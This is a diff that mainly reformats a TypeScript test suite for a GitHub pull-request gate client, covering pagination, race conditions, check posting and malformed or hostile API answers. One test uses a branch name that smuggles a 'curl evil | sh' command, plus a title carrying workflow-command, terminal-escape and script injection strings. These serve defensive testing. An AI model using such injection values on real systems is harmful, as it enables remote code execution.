@@ -49,7 +49,10 @@ describe("who somebody is", () => {
     for (const review of pull.reviews) review.user = null;
     expect((await forge.pullRequest(repo, 1)).reviews).toMatchObject([{ user: null, state: "APPROVED" }]);
     pull.author = { id: 10_137, login: "ghost", type: "User" };
-    expect(await forge.pullRequest(repo, 1)).toMatchObject({ author: null, gaps: [expect.stringContaining("is gone")] });
+    expect(await forge.pullRequest(repo, 1)).toMatchObject({
+      author: null,
+      gaps: [expect.stringContaining("is gone")],
+    });
   });
 
   it("says that a bot is one", async () => {
@@ -86,7 +89,10 @@ describe("what is not shown at once", () => {
     const { hub, forge, bob, carol } = await begin();
     for (let index = 0; index < 100; index += 1) hub.forge.review(1, carol, "COMMENTED");
     hub.forge.review(1, bob, "CHANGES_REQUESTED");
-    const drop = (value: unknown, headers: Record<string, string>): unknown => (delete headers["link"], value);
+    const drop = (value: unknown, headers: Record<string, string>): unknown => (
+      delete headers["link"],
+      value
+    );
     hub.faults.push({ operation: /reviews/, change: drop });
     expect((await forge.pullRequest(repo, 1)).reviews.at(-1)?.state).toBe("CHANGES_REQUESTED");
   });
@@ -94,7 +100,10 @@ describe("what is not shown at once", () => {
   it("a page 2 that is empty although page 1 promised it", async () => {
     const { hub, forge, carol } = await begin();
     for (let index = 0; index < 101; index += 1) hub.forge.review(1, carol, "COMMENTED");
-    const promise = (_value: unknown, headers: Record<string, string>): unknown => ((headers["link"] = '<https://x.example/?page=3>; rel="next"'), []);
+    const promise = (_value: unknown, headers: Record<string, string>): unknown => (
+      (headers["link"] = '<https://x.example/?page=3>; rel="next"'),
+      []
+    );
     hub.faults.push({ operation: /reviews/, skip: 1, change: promise });
     expect((await forge.pullRequest(repo, 1)).gaps).toEqual(["Not all reviews could be read."]);
   });
@@ -102,14 +111,24 @@ describe("what is not shown at once", () => {
   it("a page 2 that does not come", async () => {
     const { hub, forge, carol } = await begin();
     for (let index = 0; index < 101; index += 1) hub.forge.review(1, carol, "COMMENTED");
-    for (let index = 0; index < 4; index += 1) hub.faults.push({ operation: /reviews/, skip: index === 0 ? 1 : 0, status: 502 });
-    expect(await failureOf(forge.pullRequest(repo, 1))).toMatchObject({ code: "forge/unavailable", retryable: true });
+    for (let index = 0; index < 4; index += 1)
+      hub.faults.push({ operation: /reviews/, skip: index === 0 ? 1 : 0, status: 502 });
+    expect(await failureOf(forge.pullRequest(repo, 1))).toMatchObject({
+      code: "forge/unavailable",
+      retryable: true,
+    });
   });
 
   it("a review that slips to another page while pages are read", async () => {
     const { hub, forge, carol, bob, pull } = await begin();
     for (let index = 0; index < 101; index += 1) hub.forge.review(1, carol, "COMMENTED");
-    const late = { id: 5, user: bob, state: "APPROVED", commit_id: pull.head, submitted_at: "2026-07-01T00:00:00Z" } as const;
+    const late = {
+      id: 5,
+      user: bob,
+      state: "APPROVED",
+      commit_id: pull.head,
+      submitted_at: "2026-07-01T00:00:00Z",
+    } as const;
     hub.faults.push({ operation: /reviews/, skip: 1, before: () => pull.reviews.unshift(late) });
     expect((await forge.pullRequest(repo, 1)).gaps).toEqual([expect.stringContaining("answered twice")]);
   });
@@ -127,12 +146,18 @@ describe("what is not shown at once", () => {
   ])("%s", async (_what, counts) => {
     const { forge, pull } = await begin();
     pull.counts = counts;
-    expect((await forge.pullRequest(repo, 1)).gaps).toEqual([`GitHub counts ${counts.commits} commits and lists 1.`]);
+    expect((await forge.pullRequest(repo, 1)).gaps).toEqual([
+      `GitHub counts ${counts.commits} commits and lists 1.`,
+    ]);
   });
 
   it("a commit list without the head", async () => {
     const { hub, forge } = await begin();
-    hub.faults.push({ operation: /commits$/, change: (value) => JSON.parse(JSON.stringify(value).replaceAll(scene.pull.head, "a".repeat(40))) as unknown });
+    hub.faults.push({
+      operation: /commits$/,
+      change: (value) =>
+        JSON.parse(JSON.stringify(value).replaceAll(scene.pull.head, "a".repeat(40))) as unknown,
+    });
     expect((await forge.pullRequest(repo, 1)).gaps).toEqual([expect.stringContaining("without the head")]);
   });
 });
@@ -145,10 +170,26 @@ describe("what changes between looking and posting", () => {
 
   it.each<readonly [string, (s: Scene) => unknown, string]>([
     ["a push", ({ hub, alice }) => hub.forge.push(alice, "change", { "registry/e": "e" }), "The head"],
-    ["a landing on the base", ({ hub, alice }) => hub.forge.push(alice, "main", { "registry/f": "f" }), "The tip"],
-    ["a retarget", ({ hub, alice, pull }) => (hub.forge.push(alice, "side", {}), (pull.base = "side"), (pull.updated += 1)), "The target branch"],
+    [
+      "a landing on the base",
+      ({ hub, alice }) => hub.forge.push(alice, "main", { "registry/f": "f" }),
+      "The tip",
+    ],
+    [
+      "a retarget",
+      ({ hub, alice, pull }) => (
+        hub.forge.push(alice, "side", {}),
+        (pull.base = "side"),
+        (pull.updated += 1)
+      ),
+      "The target branch",
+    ],
     ["a request for changes", ({ hub, bob }) => hub.forge.review(1, bob, "CHANGES_REQUESTED"), "The reviews"],
-    ["a dismissal", ({ pull }) => ((pull.reviews[0] as { state: string }).state = "DISMISSED"), "The reviews"],
+    [
+      "a dismissal",
+      ({ pull }) => ((pull.reviews[0] as { state: string }).state = "DISMISSED"),
+      "The reviews",
+    ],
     ["a merge", ({ hub }) => hub.forge.merge(1), "The tip"],
     ["a close", ({ pull }) => (pull.state = "closed"), "The state"],
   ])("%s is seen, and nothing is posted", async (_what, act, says) => {
@@ -168,7 +209,10 @@ describe("what changes between looking and posting", () => {
     hub.faults.push({ operation: /reviews/, before: push });
     expect((await forge.pullRequest(repo, 1)).head.sha).toBe(hub.forge.tip("change"));
     for (let index = 0; index < 3; index += 1) hub.faults.push({ operation: /reviews/, before: push });
-    expect(await failureOf(forge.pullRequest(repo, 1))).toMatchObject({ code: "forge/moving", retryable: true });
+    expect(await failureOf(forge.pullRequest(repo, 1))).toMatchObject({
+      code: "forge/moving",
+      retryable: true,
+    });
   });
 
   it("a review after the merge carries its time, later than the merge", async () => {
@@ -187,8 +231,13 @@ describe("whose check a commit carries", () => {
     hub.forge.push(carol, "side", {}, hub.forge.tip("main"));
     hub.forge.open(carol, "change", "side");
     const facts = await forge.pullRequest(repo, 1);
-    expect(await postDecision({ repo, facts, posting: postingFor(facts) }, forge)).toMatchObject({ conclusion: "failure", sharedWith: [2] });
-    expect(hub.forge.checks).toMatchObject([{ conclusion: "failure", output: { title: expect.stringContaining("#2") } }]);
+    expect(await postDecision({ repo, facts, posting: postingFor(facts) }, forge)).toMatchObject({
+      conclusion: "failure",
+      sharedWith: [2],
+    });
+    expect(hub.forge.checks).toMatchObject([
+      { conclusion: "failure", output: { title: expect.stringContaining("#2") } },
+    ]);
   });
 
   it("not that of a decision about another branch", async () => {
@@ -196,15 +245,21 @@ describe("whose check a commit carries", () => {
     hub.forge.push(carol, "side", {}, hub.forge.tip("main"));
     const { number } = hub.forge.open(carol, "change", "side");
     const facts = await forge.pullRequest(repo, number);
-    expect(await failureOf(postDecision({ repo, facts, posting: postingFor(facts) }, forge))).toMatchObject({ code: "forge/other-base" });
+    expect(await failureOf(postDecision({ repo, facts, posting: postingFor(facts) }, forge))).toMatchObject({
+      code: "forge/other-base",
+    });
     expect(hub.forge.checks).toEqual([]);
   });
 
   it("is never completed when posting breaks off on the way", async () => {
     const { hub, forge } = await begin();
     const facts = await forge.pullRequest(repo, 1);
-    const annotations = Array.from({ length: 60 }, () => ({ path: "a", startLine: 1, endLine: 1, level: "notice", title: "t", message: "m" }) as const);
-    for (let index = 0; index < 4; index += 1) hub.faults.push({ operation: /^PATCH .*check-runs/, status: 500 });
+    const annotations = Array.from(
+      { length: 60 },
+      () => ({ path: "a", startLine: 1, endLine: 1, level: "notice", title: "t", message: "m" }) as const,
+    );
+    for (let index = 0; index < 4; index += 1)
+      hub.faults.push({ operation: /^PATCH .*check-runs/, status: 500 });
     await failureOf(postDecision({ repo, facts, posting: postingFor(facts, { annotations }) }, forge));
     expect(hub.forge.checks).toMatchObject([{ status: "in_progress", conclusion: null }]);
   });
@@ -224,14 +279,22 @@ describe("hostile texts", () => {
     hub.forge.comments.push({ id: 1, number: 1, user: bob, body: "<!-- assent:gate -->\nAllowed", edits: 0 });
     const facts = await forge.pullRequest(repo, 1);
     await postDecision({ repo, facts, posting: postingFor(facts, { comment: "Denied" }) }, forge);
-    expect(hub.forge.comments.map(({ user, edits }) => [user.login, edits])).toEqual([["bob", 0], ["github-actions[bot]", 0]]);
+    expect(hub.forge.comments.map(({ user, edits }) => [user.login, edits])).toEqual([
+      ["bob", 0],
+      ["github-actions[bot]", 0],
+    ]);
   });
 
   it("a title and a branch say nothing to the program", async () => {
     const { hub, forge, alice } = await begin();
     const branch = "x';curl${IFS}evil|sh;#";
     hub.forge.push(alice, branch, { "registry/h": "h" });
-    const pull = hub.forge.open(alice, branch, "main", "::set-output name=x::y\n\u001b[31m <script>@everyone");
+    const pull = hub.forge.open(
+      alice,
+      branch,
+      "main",
+      "::set-output name=x::y\n\u001b[31m <script>@everyone",
+    );
     const facts = await forge.pullRequest(repo, pull.number);
     expect(facts.head.sha).toBe(pull.head);
     expect(JSON.stringify(facts)).not.toContain("curl");
@@ -263,47 +326,105 @@ describe("hostile answers", () => {
     ["a list for an object", /pulls\/\{pull_number\}$/, []],
     ["null", /pulls\/\{pull_number\}$/, null],
     ["an object for a list", /reviews/, {}],
-    ["a review of no state", /reviews/, [{ id: 1, user: null, commit_id: null, submitted_at: "2026-07-01T00:00:00Z" }]],
-    ["a review of a new state", /reviews/, [{ id: 1, user: null, state: "BLESSED", commit_id: null, submitted_at: "2026-07-01T00:00:00Z" }]],
-    ["an id that is a text", /reviews/, [{ id: "1", user: null, state: "APPROVED", commit_id: null, submitted_at: "2026-07-01T00:00:00Z" }]],
-    ["an id that no number holds", /reviews/, '[{"id":9007199254740993,"user":null,"state":"APPROVED","commit_id":null,"submitted_at":"2026-07-01T00:00:00Z"}]'],
-    ["an account without an id", /reviews/, [{ id: 1, user: { login: "bob", type: "User" }, state: "APPROVED", commit_id: null, submitted_at: "2026-07-01T00:00:00Z" }]],
-    ["a time that is none", /reviews/, [{ id: 1, user: null, state: "APPROVED", commit_id: null, submitted_at: "yesterday" }]],
-    ["a head that is no commit", /reviews/, [{ id: 1, user: null, state: "APPROVED", commit_id: "main", submitted_at: "2026-07-01T00:00:00Z" }]],
+    [
+      "a review of no state",
+      /reviews/,
+      [{ id: 1, user: null, commit_id: null, submitted_at: "2026-07-01T00:00:00Z" }],
+    ],
+    [
+      "a review of a new state",
+      /reviews/,
+      [{ id: 1, user: null, state: "BLESSED", commit_id: null, submitted_at: "2026-07-01T00:00:00Z" }],
+    ],
+    [
+      "an id that is a text",
+      /reviews/,
+      [{ id: "1", user: null, state: "APPROVED", commit_id: null, submitted_at: "2026-07-01T00:00:00Z" }],
+    ],
+    [
+      "an id that no number holds",
+      /reviews/,
+      '[{"id":9007199254740993,"user":null,"state":"APPROVED","commit_id":null,"submitted_at":"2026-07-01T00:00:00Z"}]',
+    ],
+    [
+      "an account without an id",
+      /reviews/,
+      [
+        {
+          id: 1,
+          user: { login: "bob", type: "User" },
+          state: "APPROVED",
+          commit_id: null,
+          submitted_at: "2026-07-01T00:00:00Z",
+        },
+      ],
+    ],
+    [
+      "a time that is none",
+      /reviews/,
+      [{ id: 1, user: null, state: "APPROVED", commit_id: null, submitted_at: "yesterday" }],
+    ],
+    [
+      "a head that is no commit",
+      /reviews/,
+      [{ id: 1, user: null, state: "APPROVED", commit_id: "main", submitted_at: "2026-07-01T00:00:00Z" }],
+    ],
     ["another branch", /git\/ref/, { ref: "refs/heads/other", object: { sha: "a".repeat(40) } }],
     ["a cursor that is an address", /activity/, []],
   ])("%s: unusable, so nothing is decided", async (what, operation, body) => {
     const { hub, forge } = await begin();
-    const headers: Record<string, string> = what.includes("cursor") ? { link: '<https://evil.example/>; rel="next"' } : {};
-    hub.faults.push({ operation, headers, ...(typeof body === "string" ? { change: () => body } : { status: 200, body }) });
+    const headers: Record<string, string> = what.includes("cursor")
+      ? { link: '<https://evil.example/>; rel="next"' }
+      : {};
+    hub.faults.push({
+      operation,
+      headers,
+      ...(typeof body === "string" ? { change: () => body } : { status: 200, body }),
+    });
     const failure = await failureOf(forge.pullRequest(repo, 1));
     expect(failure).toMatchObject({ code: "forge/malformed", retryable: true });
   });
 
-  it.each([301, 302, 307, 308])("a redirect (%i) to another host is not followed, and takes no token there", async (status) => {
-    const { hub, forge } = await begin();
-    const asked: string[] = [];
-    const other = createServer((request, response) => {
-      asked.push(request.headers.authorization ?? "without");
-      response.end("{}");
-    });
-    await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
-    onTestFinished(() => void other.close());
-    const { port } = other.address() as { port: number };
-    hub.faults.push({ operation: /pulls\/\{pull_number\}$/, status, headers: { location: `http://127.0.0.1:${port}/` } });
-    expect(await failureOf(forge.pullRequest(repo, 1))).toMatchObject({ code: "forge/redirected" });
-    expect(asked).toEqual([]);
-  });
+  it.each([301, 302, 307, 308])(
+    "a redirect (%i) to another host is not followed, and takes no token there",
+    async (status) => {
+      const { hub, forge } = await begin();
+      const asked: string[] = [];
+      const other = createServer((request, response) => {
+        asked.push(request.headers.authorization ?? "without");
+        response.end("{}");
+      });
+      await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
+      onTestFinished(() => void other.close());
+      const { port } = other.address() as { port: number };
+      hub.faults.push({
+        operation: /pulls\/\{pull_number\}$/,
+        status,
+        headers: { location: `http://127.0.0.1:${port}/` },
+      });
+      expect(await failureOf(forge.pullRequest(repo, 1))).toMatchObject({ code: "forge/redirected" });
+      expect(asked).toEqual([]);
+    },
+  );
 
-  it.each(["http://github.example", "ftp://github.example", "https://user:secret@github.example", "not an address", ""])("the address %j is refused", async (address) => {
+  it.each([
+    "http://github.example",
+    "ftp://github.example",
+    "https://user:secret@github.example",
+    "not an address",
+    "",
+  ])("the address %j is refused", async (address) => {
     await begin();
-    const open = (): unknown => openForge({ env: { GITHUB_API_URL: address, GITHUB_TOKEN: "t" }, now: () => 0, version: "0" });
+    const open = (): unknown =>
+      openForge({ env: { GITHUB_API_URL: address, GITHUB_TOKEN: "t" }, now: () => 0, version: "0" });
     expect(open).toThrow(expect.objectContaining({ code: "forge/address" }));
   });
 
   it("a server that is not there is a failure that may be retried, without the token", async () => {
     const { hub } = await begin();
-    const failure = await failureOf(forgeFor(hub, { GITHUB_API_URL: "http://127.0.0.1:9" }).pullRequest(repo, 1));
+    const failure = await failureOf(
+      forgeFor(hub, { GITHUB_API_URL: "http://127.0.0.1:9" }).pullRequest(repo, 1),
+    );
     expect(failure).toMatchObject({ code: "forge/unavailable", retryable: true });
     expect(`${failure.message}${failure.stack}`).not.toContain(workflowToken);
   });
